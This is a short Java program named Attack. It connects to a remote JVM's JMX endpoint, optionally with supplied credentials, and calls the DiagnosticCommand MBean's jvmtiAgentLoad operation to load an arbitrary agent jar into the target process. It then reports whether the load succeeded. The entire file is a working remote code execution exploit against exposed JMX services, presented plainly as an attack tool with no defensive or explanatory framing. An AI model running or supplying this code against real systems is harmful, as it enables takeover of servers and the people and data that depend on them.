import java.util.Map;
import javax.management.MBeanServerConnection;
import javax.management.ObjectName;
import javax.management.remote.JMXConnector;
import javax.management.remote.JMXConnectorFactory;
import javax.management.remote.JMXServiceURL;

/** Attack ADDRESS PORT JAR PROOF [USER PASSWORD]: loads an agent into the JVM whose JMX is there, and says what it got. */
public class Attack {
    public static void main(String[] arguments) throws Exception {
        String place = arguments[0] + ":" + arguments[1];
        JMXServiceURL url = new JMXServiceURL("service:jmx:rmi:///jndi/rmi://" + place + "/jmxrmi");
        Map<String, Object> login = arguments.length < 6
            ? Map.of()
            : Map.of(JMXConnector.CREDENTIALS, new String[] {arguments[4], arguments[5]});
        try (JMXConnector connector = JMXConnectorFactory.connect(url, login)) {
            MBeanServerConnection server = connector.getMBeanServerConnection();
            System.out.println("reads " + server.getAttribute(new ObjectName("java.lang:type=Runtime"), "SpecName"));
            String[] agent = {arguments[2], arguments[3]};
            Object answer = server.invoke(
                new ObjectName("com.sun.management:type=DiagnosticCommand"),
                "jvmtiAgentLoad",
                new Object[] {agent},
                new String[] {String[].class.getName()});
            System.out.println("loads " + answer);
        } catch (Exception refused) {
            System.out.println("refused " + refused.getClass().getName());
        }
    }
}
